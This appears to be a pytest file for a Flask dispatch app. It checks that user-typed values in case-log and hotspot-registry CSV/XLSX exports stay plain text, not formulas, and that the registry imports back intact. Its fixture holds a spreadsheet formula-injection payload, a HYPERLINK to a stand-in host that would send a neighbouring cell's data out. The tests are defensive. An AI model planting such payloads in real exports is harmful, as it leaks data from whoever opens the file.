"""Text a person typed never runs as a spreadsheet formula: every CSV and XLSX export
(case log, figures, hotspot registry) keeps it text, and the registry CSV imports back."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from openpyxl import load_workbook

from dispatch.cells import as_text_cell, from_text_cell
from webapp.resources import resources
from webapp.views.pages import current_plan

EVIL = '=HYPERLINK("http://evil.example/?d="&A3,"详情")'


@pytest.mark.parametrize("text", [EVIL, "+1-2", "-3", "@SUM(A1)", "\t=1", "\r=1", "桥下", "a=b"])
def test_a_cell_reads_back_as_it_was_typed(text: str) -> None:
    written = as_text_cell(text)
    assert not str(written).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_text_cell(str(written)) == text
    assert as_text_cell(-3) == -3  # numbers stay numbers


def _report(app: Flask) -> str:
    with app.test_request_context():
        place = next(iter(current_plan().hotspots.values())).access
    answer = app.test_client(role=None).post("/api/reports", json={
        "lon": place[0], "lat": place[1], "place": EVIL, "seen": "=1+1 someone", "people": 1})
    assert answer.status_code == 201, answer.get_json()
    return str(answer.get_json()["reference"])


def test_the_case_log_keeps_formulas_as_text(private_app: Flask) -> None:
    _report(private_app)
    admin = private_app.test_client(role="admin")
    with private_app.test_request_context():
        night = current_plan().date
    span = f"from={night}&to={night}"
    rows = list(csv.reader(io.StringIO(
        admin.get(f"/cases.csv?{span}").get_data().decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert any(EVIL in c for c in cells)
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    book = load_workbook(io.BytesIO(admin.get(f"/cases.xlsx?{span}").get_data()))
    values = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert any(c.value == EVIL for c in values)
    assert all(c.data_type != "f" for c in values)


def test_the_registry_csv_keeps_formulas_as_text_and_imports_back(private_app: Flask) -> None:
    client = private_app.test_client()
    with private_app.app_context(), resources().sessions.begin() as session:
        from dispatch.models import Hotspot

        first = session.query(Hotspot).order_by(Hotspot.id).first()
        assert first is not None
        first.name, first.district = EVIL, "-西区"
    exported = client.get("/hotspots/export.csv").get_data()
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values()
                   if v)
    assert any(row["name"] == "'" + EVIL for row in rows)
    from dispatch.readers import read_csv

    table = read_csv(exported)
    names = {row.attributes["name"] for row in table.rows}
    assert EVIL in names and any(row.attributes.get("district") == "-西区" for row in table.rows)
